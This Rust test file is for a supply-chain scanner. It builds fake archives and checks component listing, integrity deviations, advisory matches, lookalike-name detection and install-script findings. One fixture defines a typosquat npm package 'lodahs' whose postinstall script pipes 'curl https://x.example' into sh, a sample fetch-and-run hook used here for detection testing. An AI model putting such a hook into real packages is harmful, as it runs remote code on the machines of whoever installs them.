//! From the bytes of an archive to components, integrity and findings, the way that a package goes.

#![allow(clippy::unwrap_used)]

use evidence::{Severity, Sha256Digest};
use package::{
    Advisories, Checked, Component, Components, Expected, InstallScripts, Integrity, Limits,
    Source, Subject,
};
use std::io::{Cursor, Write as _};
use zip::write::SimpleFileOptions;

const API: &str = "def get(): ...\n";

fn zipped(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (path, bytes) in files {
        zip.start_file(*path, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn package(api: &str, class: &[u8]) -> Vec<u8> {
    let digest = |text: &str| {
        let base64 = Sha256Digest::of(text).to_base64();
        base64.replace('+', "-").replace('/', "_").replace('=', "")
    };
    let record = format!(
        "requests/api.py,sha256={},15\nrequests-2.32.3.dist-info/RECORD,,\n",
        digest(API)
    );
    let manifest = format!(
        "Manifest-Version: 1.0\r\n\r\nName: a/B.class\r\nSHA-256-Digest: {}\r\n\r\n",
        Sha256Digest::of("class").to_base64()
    );
    let jar = zipped(&[
        ("META-INF/MANIFEST.MF", manifest.as_bytes()),
        (
            "META-INF/maven/org.g/a/pom.properties",
            b"groupId=org.g\nartifactId=a\nversion=1.0\n",
        ),
        ("a/B.class", class),
    ]);
    zipped(&[
        ("app.py", b"import requests\n"),
        ("requests/api.py", api.as_bytes()),
        ("requests-2.32.3.dist-info/METADATA", b"Name: requests\nVersion: 2.32.3\n"),
        ("requests-2.32.3.dist-info/RECORD", record.as_bytes()),
        (
            "node_modules/lodahs/package.json",
            br#"{"name":"lodahs","version":"1.0.0","scripts":{"postinstall":"curl https://x.example | sh"}}"#,
        ),
        ("lib/a.jar", &jar),
    ])
}

struct Looked {
    contents: package::Contents,
    components: Vec<Component>,
    checked: Checked,
    scripts: InstallScripts,
}

fn look(zip: Vec<u8>) -> Looked {
    let mut components = Components::new();
    let mut integrity = Integrity::new();
    let mut scripts = InstallScripts::new();
    let mut source = Source::from_bytes("package.zip", zip).unwrap();
    let contents = source
        .read(
            &Limits::default(),
            &mut [&mut components, &mut integrity, &mut scripts],
        )
        .unwrap();
    assert_eq!(components.gaps("function-code"), []);
    Looked {
        components: components.finish(&contents),
        checked: integrity.finish(&contents),
        contents,
        scripts,
    }
}

#[test]
fn components_of_an_archive_and_of_the_jars_in_it_are_listed() {
    let looked = look(package(API, b"class"));
    let purls: Vec<_> = looked
        .components
        .iter()
        .map(|it| it.purl.as_str())
        .collect();
    assert_eq!(
        purls,
        [
            "pkg:pypi/requests@2.32.3",
            "pkg:npm/lodahs@1.0.0",
            "pkg:maven/org.g/a@1.0"
        ]
    );
    assert_eq!((looked.checked.components, looked.checked.files), (2, 2));
    assert_eq!(looked.checked.deviations, []);
}

#[test]
fn changes_in_an_archive_and_in_the_jars_in_it_are_found() {
    let looked = look(package("import evil\n", b"evil class"));
    let found: Vec<_> = looked
        .checked
        .findings("function-code")
        .into_iter()
        .map(|it| (it.severity, it.proof[0].path.clone().unwrap()))
        .collect();
    assert_eq!(
        found,
        [
            (Severity::High, "lib/a.jar!/a/B.class".to_owned()),
            (Severity::High, "requests/api.py".to_owned())
        ]
    );
}

#[test]
fn what_is_known_of_components_becomes_findings() {
    let looked = look(package(API, b"class"));
    let advisories = Advisories::read(
        "mine.json",
        br#"[{"id":"MAL-2026-1","affected":[{"package":{"ecosystem":"npm","name":"lodahs"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}]"#,
    )
    .unwrap();
    let expected = Expected::read(
        format!(
            r#"{{"functions":{{"orders-api":"{0}"}},"components":{{"org.g:a@1.0":"{0}"}}}}"#,
            Sha256Digest::of("another")
        )
        .as_bytes(),
    )
    .unwrap();
    let subject = Subject {
        part: "function-code",
        arn: Some("arn:aws:lambda:eu-west-1:111122223333:function:orders-api"),
        sha256: Some(Sha256Digest::of("zip")),
    };
    let mut findings = advisories.matching("function-code", &looked.components);
    findings.extend(expected.check(&subject, &looked.contents, &looked.components));
    findings.extend(package::lookalikes("function-code", &looked.components));
    findings.extend(looked.scripts.finish("function-code"));
    let rules: Vec<_> = findings
        .iter()
        .map(|it| (it.rule.as_str(), it.severity))
        .collect();
    assert_eq!(
        rules,
        [
            ("known-malicious-component", Severity::Critical),
            ("expected-digest-deviation", Severity::High),
            ("expected-digest-deviation", Severity::High),
            ("expected-digest-absent", Severity::Info),
            ("component-name-lookalike", Severity::Medium),
            ("component-install-script", Severity::Medium),
        ]
    );
}
